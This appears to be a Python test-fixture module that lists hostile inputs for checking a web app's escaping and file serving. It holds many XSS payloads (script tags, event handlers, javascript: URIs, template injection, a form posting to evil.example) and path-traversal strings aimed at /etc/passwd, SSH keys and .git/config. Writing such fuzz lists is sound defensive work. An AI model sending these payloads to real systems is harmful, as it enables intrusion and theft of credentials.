"""Words that try to be more than words, and names that try to lead out of a folder."""

HOSTILE = [
    "<script>window.pwned=1</script>", "<img src=x onerror=window.pwned=1>", "<svg onload=window.pwned=1>", "<svg/onload=alert(1)>",
    "\"><script>window.pwned=1</script>", "'><img src=x onerror=alert(1)>", "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<javascript:alert(1)|click me>", "<JaVaScRiPt:alert(1)|click>", "<data:text/html,<script>1</script>|x>",
    "<vbscript:msgbox(1)|x>", "<file:///etc/passwd|x>", "<https://example.com\" onmouseover=\"alert(1)|x>", "<https://example.com|<script>1</script>>",
    "<https://a@b:c/|x>", "<mailto:a@example.com?subject=<script>|x>", "javascript:alert(1)", "http://example.com/\"onclick=alert(1)",
    "<@U0\" onclick=\"alert(1)>", "<#C0|<img src=x onerror=alert(1)>>", "<!here|<script>1</script>>", "<!subteam^S1|<b onclick=alert(1)>>",
    "<!date^99999999999999999999^{date}|x>", "<!date^0^{constructor} {__proto__}|x>", "<!date^1^{date}^javascript:alert(1)|x>", "<!unknown^x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "*" * 60, "_" * 60, "`" * 61, "~" * 60, "*_~" * 20, "<" * 60, ">" * 60, "&" * 60,
    ":" * 60, ":constructor:", ":__proto__:", "```<script>1</script>```", "`<img src=x onerror=alert(1)>`", ">>> <script>1</script>",
    "__proto__", "constructor", "hasOwnProperty", "<base href=https://evil.example/>", "<meta http-equiv=refresh content=0>",
    "<form action=https://evil.example><input name=token>", "<link rel=stylesheet href=//evil.example>", "<x onclick=alert(1) tabindex=1>",
    "\u202ereversed\u202c", "a\u0301\u0302\u0303\u0304", "[x](javascript:alert(1))", "![x](javascript:alert(1))", "The last one: <b>not bold</b>",
]  # fmt: skip

TRAVERSALS = [
    "../page.py", "../../pyproject.toml", "..", ".", "", "./../page.py", "....//page.py", "..;/page.py", "..%2fpage.py", "..%2Fpage.py",
    "%2e%2e/page.py", "%2e%2e%2fpage.py", "%2e./page.py", ".%2e/page.py", "..%5cpage.py", "..\\page.py", "%252e%252e%252fpage.py",
    "..%252fpage.py", "..%c0%afpage.py", "..%c1%9cpage.py", "%c0%ae%c0%ae/page.py", "%e0%80%ae%e0%80%ae/page.py", "..%00/page.py", "../page.py%00.js",
    "app.js%00", "app.js%00.txt", "app.js/", "app.js/..", "/etc/passwd", "//etc/passwd", "%2fetc%2fpasswd", "../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "file:///etc/passwd", "C:/windows/win.ini", "C%3a%5cwindows%5cwin.ini", "app.js/../../page.py",
    "page/../../page.py", "%2e%2e%2f%2e%2e%2fpyproject.toml", "....%2f%2fpage.py", "~/page.py", "$HOME/.ssh/id_rsa", "APP.JS", "app.js.bak", ".git/config",
]  # fmt: skip
